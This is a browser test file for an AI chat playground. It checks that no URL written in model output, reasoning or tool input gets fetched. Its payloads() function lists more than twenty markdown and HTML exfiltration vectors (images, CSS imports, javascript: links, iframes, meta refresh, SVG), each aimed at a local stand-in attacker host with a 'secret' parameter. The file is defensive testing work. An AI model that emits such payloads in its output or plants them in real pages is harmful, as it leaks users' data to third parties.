import { closeServers, listen } from '@interleave/test-kit/listen'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { useContext } from './browser.ts'
import { openPlayground, untilStatus } from './openPlayground.ts'
import { standIn, useStandIn } from './standIn.ts'

const context = useContext()

/** A place that an attacker reads the log of. */
const asked: string[] = []
let host: string
beforeAll(async () => {
  const { port } = await listen((request, response) => {
    asked.push(String(request.url))
    response.end()
  })
  host = `127.0.0.1:${port}`
})
afterAll(closeServers)

/** Ways to have a page fetch something, by text alone. */
function payloads(host: string): readonly string[] {
  const to = (name: string): string => `http://${host}/${name}?secret=42`
  return [
    `![image](${to('image')})`,
    `![reference][r]\n\n[r]: ${to('reference')}`,
    `<img src="${to('html-image')}" srcset="${to('srcset')} 2x">`,
    `<${to('autolink')}>`,
    `bare ${to('bare')} link`,
    `[link](${to('link')} "${to('title')}")`,
    `![data](data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"><image href="${to('data')}"/></svg>)`,
    `[script](javascript:fetch('${to('javascript')}'))`,
    `<svg><image href="${to('svg')}"/><use href="${to('svg-use')}#a"/></svg>`,
    `<style>@import url("${to('css-import')}"); p { background: url("${to('css')}") }</style>`,
    `<p style="background-image:url(${to('style')})">styled</p>`,
    `<link rel="preload" as="image" href="${to('preload')}"><link rel="stylesheet" href="${to('stylesheet')}">`,
    `note[^1]\n\n[^1]: ![image](${to('footnote')})`,
    `<iframe src="${to('frame')}"></iframe><object data="${to('object')}"></object><embed src="${to('embed')}">`,
    `<video src="${to('video')}" poster="${to('poster')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>`,
    `<script src="${to('script')}"></script><meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
    `![no scheme](//${host}/no-scheme)`,
    `[![image in a link](${to('linked-image')})](${to('around')})`,
    `| table |\n| - |\n| ![cell](${to('cell')}) |`,
    `- [ ] ![task](${to('task')})\n- <input type="image" src="${to('input')}">`,
    `\`![code](${to('code')})\`\n\n\`\`\`html\n<img src="${to('fence')}">\n\`\`\``,
    `&lt;img src=${to('entity')}&gt; <IMG\nSRC=${to('case')}>`,
  ]
}

test.each([
  ['with', false],
  ['without', true],
])('row 3: nothing that a model writes is fetched, %s the policy of the page', async (_, bypassCSP) => {
  const own = await context().browser()?.newContext({ bypassCSP })
  if (!own) throw new Error('There is no browser.')
  const text = payloads(host).join('\n\n')
  const model = await standIn([
    { text, reasoning: text, calls: [{ name: 'calculate', input: { expression: text } }] },
    { text },
  ])
  const { page, problems } = await openPlayground(own)
  const requested: string[] = []
  page.on('request', (request) => request.url().includes(host) && requested.push(request.url()))

  await useStandIn(page, model)
  await page.getByLabel('Message').fill(text)
  await page.keyboard.press('Enter')
  await untilStatus(page, 'Done')
  for (const tab of await page.locator('[data-pane="details"] [role=tab]').all()) await tab.click()
  await page.getByText('Image not loaded').first().waitFor()
  const link = page.locator('.message-text a', { hasText: 'link' }).last()
  const shown = [await link.textContent(), await link.getAttribute('rel')]
  await page.mouse.wheel(0, 5_000)
  await page.waitForTimeout(300)
  await own.close()
  await model.close()

  expect(payloads(host).length).toBeGreaterThanOrEqual(18)
  expect([asked, requested]).toEqual([[], []])
  expect(shown).toEqual([expect.stringContaining('127.0.0.1'), 'noopener noreferrer nofollow'])
  expect(problems).toEqual([])
})

test('row 3: the position that is watched would tell', async () => {
  const own = await context().browser()?.newContext({ bypassCSP: true })
  const page = await own?.newPage()
  await page?.setContent(`<img src="http://${host}/control">`, {
    waitUntil: 'load',
  })
  await own?.close()

  expect(asked).toEqual(['/control'])
})
